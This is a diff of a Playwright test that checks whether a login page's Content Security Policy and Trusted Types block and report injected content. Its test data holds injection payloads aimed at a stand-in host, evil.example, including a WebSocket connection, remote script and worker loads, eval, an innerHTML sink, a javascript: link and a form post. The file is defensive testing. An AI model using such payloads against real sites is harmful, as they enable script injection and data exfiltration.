@@ -3,19 +3,19 @@ import { paths } from '@/paths'
 import { NGINX_URL } from '../../e2e/playwright.config'
 
 /**
- * The page as nginx sends it, with injected content: nothing of that runs, loads or leaves, and the
- * browser reports each attempt. The hosts that a build allows are tested in
- * src/build/headers.test.ts.
+ * Tests the page as nginx sends it, with injected content. That content must run no code, load
+ * nothing and send nothing, and the browser must report each attempt. The hosts that a build allows
+ * are tested in src/build/headers.test.ts.
  */
 
 const EVIL = 'https://evil.example'
-interface Held {
+interface Violation {
   directive: string
-  /** The address or the kind that the browser reports as blocked. */
+  /** The blocked address, or a kind of content such as "inline", as the browser reports it. */
   blocked: string
 }
 
-type Attempt = Held & { name: string }
+type Attempt = Violation & { name: string }
 
 const attempt = (name: string, directive: string, blocked: string): Attempt => ({ name, directive, blocked })
 
@@ -33,10 +33,13 @@ const MARKUP: readonly Attempt[] = [
   attempt(`<img src="http://evil.example/i.png">`, 'img-src', 'http://evil.example/i.png'),
 ]
 
-/** One attempt for each kind of trusted value; which functions require one is up to browsers. */
-const unsafe = (code: string) => attempt(code, 'require-trusted-types-for', 'trusted-types-sink')
+/**
+ * Returns an attempt to use a string where the browser requires a trusted value. Only a few
+ * functions are tried, because browsers decide which functions require a trusted value.
+ */
+const untrusted = (code: string) => attempt(code, 'require-trusted-types-for', 'trusted-types-sink')
 
-/** Attempts of code that already runs, as injected code would go on; each a function's body. */
+/** Attempts of injected code that already runs. Each `name` is the body of a function. */
 const CODE: readonly Attempt[] = [
   attempt(`new WebSocket('wss://evil.example/socket')`, 'connect-src', 'wss://evil.example/socket'),
   attempt(`new Image().src = 'data:image/gif;base64,R0lGODlhAQABAAAAACw='`, 'img-src', 'data'),
@@ -49,27 +52,27 @@ const CODE: readonly Attempt[] = [
     `${EVIL}/form`,
   ),
   attempt(`trustedTypes.createPolicy('mine', {})`, 'trusted-types', 'trusted-types-policy'),
-  unsafe(`make('div').innerHTML = '<b>x</b>'`),
-  unsafe(`eval('ran.push("eval")')`),
-  unsafe(`make('script').src = '${EVIL}/s.js'`),
-  unsafe(`new Worker('${EVIL}/w.js')`),
+  untrusted(`make('div').innerHTML = '<b>x</b>'`),
+  untrusted(`eval('ran.push("eval")')`),
+  untrusted(`make('script').src = '${EVIL}/s.js'`),
+  untrusted(`new Worker('${EVIL}/w.js')`),
   attempt(`Object.assign(make('a'), { href: 'javascript:ran.push("link")' }).click()`, 'script-src-elem', 'inline'),
 ]
 
 declare global {
   var ran: string[]
-  var held: Held[]
+  var held: Violation[]
   var make: (tag: string) => HTMLElement
 }
 
 /**
- * Opens Log-in with the markup in it.
- * @returns the requests to other hosts
+ * Opens Log-in with `markup` at the end of the page's body.
+ * @returns the addresses of all requests to other hosts
  */
 async function openWith(page: Page, markup: string): Promise<string[]> {
-  const left: string[] = []
+  const outsideRequests: string[] = []
   await page.route(/^(?:https|http:\/\/evil)/, (route) => {
-    left.push(route.request().url())
+    outsideRequests.push(route.request().url())
     return route.fulfill({ body: `ran.push('from afar')`, contentType: 'text/javascript' })
   })
   await page.addInitScript(() => {
@@ -84,41 +87,42 @@ async function openWith(page: Page, markup: string): Promise<string[]> {
   await page.route(`${NGINX_URL}${paths.login()}`, async (route) => {
     const response = await route.fetch()
     const html = await response.text()
-    // The body is unpacked here and has another length.
+    // Leaves out the headers of the compressed body, because the new body is uncompressed.
     const { 'content-encoding': _encoding, 'content-length': _length, ...headers } = response.headers()
     return route.fulfill({ response, headers, body: html.replace('</body>', () => `${markup}</body>`) })
   })
   await page.goto(`${NGINX_URL}${paths.login()}`)
   await expect(page.getByRole('heading', { level: 1, name: 'Log in' })).toBeVisible()
   await page.waitForFunction(() => performance.getEntriesByName('interactive').length > 0)
-  return left
+  return outsideRequests
 }
 
-async function expectNothing(page: Page, left: readonly string[]): Promise<void> {
-  const evil = () => [...ran, getComputedStyle(document.body).getPropertyValue('--evil')]
-  expect(await page.evaluate(evil)).toEqual([''])
-  expect(left).toEqual([])
+async function expectNoEffect(page: Page, outsideRequests: readonly string[]): Promise<void> {
+  const effects = () => [...ran, getComputedStyle(document.body).getPropertyValue('--evil')]
+  expect(await page.evaluate(effects)).toEqual([''])
+  expect(outsideRequests).toEqual([])
 }
 
 test.use({ serviceWorkers: 'allow', contextOptions: { reducedMotion: 'reduce' } })
 
 test('injected markup is blocked and reported, and the app still works', async ({ page }) => {
-  const left = await openWith(page, MARKUP.map(({ name }) => name).join('\n'))
+  const outsideRequests = await openWith(page, MARKUP.map(({ name }) => name).join('\n'))
   const expected = MARKUP.map(({ directive, blocked }) => `${directive} ${blocked}`).sort()
-  // Each is reported twice, by the page's policy and the header's; nothing else is reported.
+  // Each attempt is reported twice, by the policy in the page and by the policy in the header.
+  // Nothing else is reported.
   const reported = async () => {
-    const held = await page.evaluate(() => globalThis.held)
-    return held.map(({ directive, blocked }) => `${directive} ${blocked}`).sort()
+    const violations = await page.evaluate(() => globalThis.held)
+    return violations.map(({ directive, blocked }) => `${directive} ${blocked}`).sort()
   }
   await expect.poll(async () => [...new Set(await reported())]).toEqual([...new Set(expected)])
-  expect(await reported()).toEqual(expected.flatMap((each) => [each, each]))
-  await expectNothing(page, left)
+  expect(await reported()).toEqual(expected.flatMap((violation) => [violation, violation]))
+  await expectNoEffect(page, outsideRequests)
   await page.getByLabel('Username').fill('wulan_r')
   await expect(page.getByLabel('Username')).toHaveValue('wulan_r')
 })
 
 test('the next steps of injected code are blocked and reported', async ({ page }) => {
-  const left = await openWith(page, '')
+  const outsideRequests = await openWith(page, '')
   expect(await page.evaluate(() => held)).toEqual([])
   for (const { name, directive, blocked } of CODE)
     await test.step(name, async () => {
@@ -126,9 +130,9 @@ test('the next steps of injected code are blocked and reported', async ({ page }
       // The code runs in a task of the page, because code that the debugger runs may do more.
       await page.evaluate(`setTimeout(() => { ${name} })`)
       await expect
-        .poll(() => page.evaluate(() => held.map((each) => `${each.directive} ${each.blocked}`)))
+        .poll(() => page.evaluate(() => held.map((violation) => `${violation.directive} ${violation.blocked}`)))
         .toContain(`${directive} ${blocked}`)
     })
-  await expectNothing(page, left)
+  await expectNoEffect(page, outsideRequests)
   expect(await page.evaluate(() => location.pathname)).toBe(paths.login())
 })
